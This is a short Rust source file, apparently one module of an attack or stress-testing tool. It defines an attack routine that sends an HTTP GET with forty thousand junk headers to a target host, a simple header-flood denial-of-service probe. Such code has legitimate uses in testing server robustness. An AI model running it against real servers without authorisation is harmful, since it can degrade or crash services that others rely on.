//! Sends forty thousand headers.

use crate::ways::*;

use crate::attack::*;

crate::attack! {
    async fn call(to: String) -> Result<String> {
        let mut request = http::get(format!("http://{to}/"));
        for n in 0..40_000 {
            request = request.header(format!("x-{n}"), "1");
        }
        request.send().await?.text()
    }
}
